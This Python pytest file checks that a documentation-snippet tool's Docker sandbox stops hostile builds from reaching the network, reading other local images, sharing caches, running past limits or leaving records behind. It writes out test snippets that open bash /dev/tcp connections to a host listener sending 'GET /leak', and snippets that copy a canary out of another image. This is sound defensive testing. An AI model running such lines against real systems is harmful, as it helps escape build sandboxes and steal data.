"""Each "cannot" of docs/reference/security.md, tried for real on the Docker engine: a hostile
snippet cannot reach the network, read another image, read another example's cache, run past
its limits, or leave anything behind. Canaries only, in images and folders made here."""

from __future__ import annotations

import http.server
import ipaddress
import json
import shutil
import subprocess
import threading
import uuid
from snipcheck.records import replace
from pathlib import Path

import pytest
from locks import lock_images
from test_builder import APP, builder  # noqa: F401 (the session fixture: engine + stand-ins)

from snipcheck.builder import BuildJob, DockerBuilder, Status, build_snippets
from snipcheck.builder.docker import default_docker
from snipcheck.builder.world import choose, standin_address
from snipcheck.config import Config
from snipcheck.snippets import FenceOptions, snippet_from_dockerfile

pytestmark = [pytest.mark.docker, pytest.mark.slow]
DOCKER = default_docker()


def offline():
    """Base images from the local stand-in registry, as the session fixture's builder gets them."""
    return choose(Config(offline=True))
CANARY = "CANARY-d41e77-not-a-secret"
TEST_LABEL = "snipcheck.sectest"


def docker(*args, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([DOCKER, *args], capture_output=True, text=True, timeout=300, **kwargs)


def job(text: str, **kwargs) -> BuildJob:
    """A job whose run is `bash -c true` on Debian (CMD bash): only the build is under test."""
    return BuildJob("hostile.md:1", text, APP, (("VERSION", "test-1"),), **{"run_args": ("-c", "true"), **kwargs})


@pytest.fixture()
def listener():
    """A server that records every connection, on the engine's bridge gateway (what a build with
    the network reaches the host on), else on loopback."""
    subnet = docker("network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Subnet}}").stdout.strip()
    gateway = str(ipaddress.ip_network(subnet)[1]) if subnet else ""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"reached\n")

        def log_message(self, *args):
            pass

    try:
        server = http.server.ThreadingHTTPServer((gateway or "127.0.0.1", 0), Handler)
    except OSError:
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address, hits
    server.shutdown()


def reach(host: str, port: int) -> str:
    # bash's /dev/tcp: the stand-in has no curl in debian:bookworm-slim
    return (f"FROM debian:bookworm-slim\nCOPY go.mod /go.mod\n"
            f"RUN bash -c 'exec 3<>/dev/tcp/{host}/{port} && printf \"GET /leak HTTP/1.0\\r\\n\\r\\n\" >&3 && cat <&3'\n"
            f"RUN bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' || true\n")


def test_a_build_cannot_reach_a_server_on_the_host(builder, listener):  # noqa: F811
    (host, port), hits = listener
    outcome = builder.build_and_run(job(reach(host, port)))
    assert outcome.status is Status.BUILD_FAILED, outcome
    assert hits == []


def test_a_declared_networked_build_reaches_it_and_is_marked(builder, listener, tmp_path):  # noqa: F811
    (host, port), hits = listener
    if host.startswith("127.") or not Path("/sys/class/net/docker0").exists():
        pytest.fail("the engine's bridge (docker0) is missing: a networked build cannot run here, so the control "
                    "case that proves the listener is reachable cannot either (restart dockerd to recreate it)")
    snippet = replace(snippet_from_dockerfile("docs/net.md", reach(host, port)), options=FenceOptions(network="build"))
    reports = build_snippets([snippet], [], _project(tmp_path), builder, Config())
    assert hits == ["/leak"]  # the control: with the network declared, the same RUN gets through
    assert reports[0].job.network
    assert "DG014" in [f.rule for f in reports[0].findings]
    # and a run never has it: the selfcheck stage ran with --network none (see DockerBuilder._run)
    refused = build_snippets([snippet], [], _project(tmp_path), builder, Config(allow_network=False))
    assert refused[0].outcome.status is Status.REFUSED and hits == ["/leak"]


@pytest.fixture()
def local_secret_image(tmp_path):
    """A local image holding a canary, as another project on the same engine would have."""
    tag = f"snipcheck-sectest/secret:{uuid.uuid4().hex[:8]}"
    (tmp_path / "canary").write_text(CANARY + "\n")
    (tmp_path / "Dockerfile").write_text("FROM scratch\nCOPY canary /canary\n")
    made = docker("build", "-q", "-t", tag, "--label", f"{TEST_LABEL}=1", str(tmp_path),
                  env={"DOCKER_BUILDKIT": "1", "PATH": "/usr/bin:/bin"})
    assert made.returncode == 0, made.stderr
    yield tag
    docker("image", "rm", "-f", tag)


@pytest.mark.parametrize("form", [
    "FROM debian:bookworm-slim\nCOPY go.mod /\nCOPY --from={img} /canary /canary\nRUN cat /canary\n",
    "FROM debian:bookworm-slim\nCOPY go.mod /\nRUN --mount=type=bind,from={img},target=/o cat /o/canary\n",
    "FROM {img}\nCOPY go.mod /\n",
])
def test_a_build_cannot_read_another_local_image(builder, local_secret_image, tmp_path, form):  # noqa: F811
    snippet = snippet_from_dockerfile("docs/steal.md", form.format(img=local_secret_image))
    engine = Counting(builder)
    reports = build_snippets([snippet], [], _project(tmp_path), engine, Config())
    assert reports[0].outcome.status is Status.REFUSED, reports[0].outcome
    assert [f.rule for f in reports[0].findings] == ["DG012"]
    assert local_secret_image in reports[0].outcome.reason and "`snipcheck images lock`" in reports[0].outcome.reason
    assert CANARY not in repr(reports[0])
    assert engine.jobs == []  # refused before any build: the engine was never asked


def test_a_locked_image_and_an_earlier_stage_are_built(builder, tmp_path):  # noqa: F811
    text = ("FROM debian:bookworm-slim AS base\nCOPY go.mod /go.mod\nFROM base\n"
            "COPY --from=base /go.mod /again\nRUN test -s /again\n")
    engine = Counting(builder)
    reports = build_snippets([snippet_from_dockerfile("docs/ok.md", text)], [], _project(tmp_path), engine, Config())
    assert reports[0].outcome.built and engine.jobs == ["docs/ok.md:1"], reports[0].outcome
    assert "debian:bookworm-slim@sha256:" in reports[0].outcome.world


def test_an_image_the_lock_lacks_is_refused_even_when_the_registry_has_it(builder, tmp_path):  # noqa: F811
    snippet = snippet_from_dockerfile("docs/unlocked.md", "FROM debian:trixie-slim\nCOPY go.mod /go.mod\n")
    (report,) = build_snippets([snippet], [], _project(tmp_path), builder, Config())
    assert report.outcome.status is Status.REFUSED and "debian:trixie-slim (line 1)" in report.outcome.reason


class Counting:
    """The real builder, noting which jobs reached it."""

    def __init__(self, real) -> None:
        self.real = real
        self.jobs: list[str] = []

    def build_and_run(self, job):
        self.jobs.append(job.name)
        return self.real.build_and_run(job)

    def __getattr__(self, name):
        return getattr(self.real, name)


def test_a_cache_written_by_one_example_is_not_visible_to_the_next(builder):  # noqa: F811
    writer = ("FROM debian:bookworm-slim\nCOPY go.mod /\n"
              f"RUN --mount=type=cache,id=shared,target=/cache echo {CANARY} > /cache/poison\n")
    reader = ("FROM debian:bookworm-slim\nCOPY go.mod /\n"
              "RUN --mount=type=cache,id=shared,target=/cache test ! -e /cache/poison\n")
    assert builder.build_and_run(job(writer)).status is Status.OK
    assert builder.build_and_run(job(reader)).status is Status.OK  # fails if the poison is visible
    # and not in a later run either (a new builder: a new namespace)
    with DockerBuilder(DOCKER, world=offline()) as later:
        assert later.build_and_run(job(reader)).status is Status.OK


def test_limits_stop_a_build_a_run_and_a_large_image():
    with DockerBuilder(DOCKER, world=offline(), build_timeout=5) as b:
        slow_build = b.build_and_run(job("FROM debian:bookworm-slim\nCOPY go.mod /\nRUN sleep 60\n"))
        assert slow_build.status is Status.LIMIT and "build_timeout" in slow_build.reason
    with DockerBuilder(DOCKER, world=offline(), run_timeout=5, max_layer_bytes=3_000_000) as b:
        slow_run = b.build_and_run(job("FROM debian:bookworm-slim\nCOPY go.mod /\n"
                                       "RUN printf '#!/bin/sh\\nsleep 60\\n' > /slow && chmod +x /slow\n"
                                       'ENTRYPOINT ["/slow"]\n'))
        assert slow_run.status is Status.LIMIT and "run_timeout" in slow_run.reason
        big = b.build_and_run(job("FROM debian:bookworm-slim\nCOPY go.mod /\nRUN head -c 5000000 /dev/zero > /big\n"))
        assert big.status is Status.LIMIT and "max_layer_bytes" in big.reason


def test_build_cache_records_of_a_run_are_removed_and_no_others(tmp_path):
    # a record that is not this tool's: a build made here, as another project would
    stamp = uuid.uuid4().hex
    base = f"{standin_address(Config())}/library/debian:bookworm-slim"  # the stand-in, from its registry
    (tmp_path / "Dockerfile").write_text(f"FROM {base}\nRUN echo other-{stamp} > /x\n")
    made = docker("build", "-q", "--network", "none", "--label", f"{TEST_LABEL}=1", str(tmp_path),
                  env={"DOCKER_BUILDKIT": "1", "PATH": "/usr/bin:/bin"})
    assert made.returncode == 0, made.stderr
    with DockerBuilder(DOCKER, world=offline()) as b:
        assert b.build_and_run(job("FROM debian:bookworm-slim\nCOPY go.mod /\n"
                                   f"RUN --mount=type=cache,target=/c echo {stamp} > /c/x\n")).status is Status.OK
        marker = f"snipcheck-build-{b._run_id}-"
        assert marker in _cache_descriptions()
    after = _cache_descriptions()
    assert marker not in after and f"other-{stamp}" in after
    docker("image", "rm", "-f", made.stdout.strip())


def _cache_descriptions() -> str:
    records = json.loads(docker("system", "df", "-v", "--format", "{{json .BuildCache}}").stdout or "[]") or []
    return "\n".join(r["Description"] for r in records)


def _project(tmp_path: Path) -> Path:
    """A project folder whose snippets/app is the fixture app (the build context), with a lock of
    the one base image these tests build on."""
    root = tmp_path / "project"
    if not root.exists():
        shutil.copytree(APP, root / "snippets" / "app")
        lock_images(root, "debian:bookworm-slim")
    return root
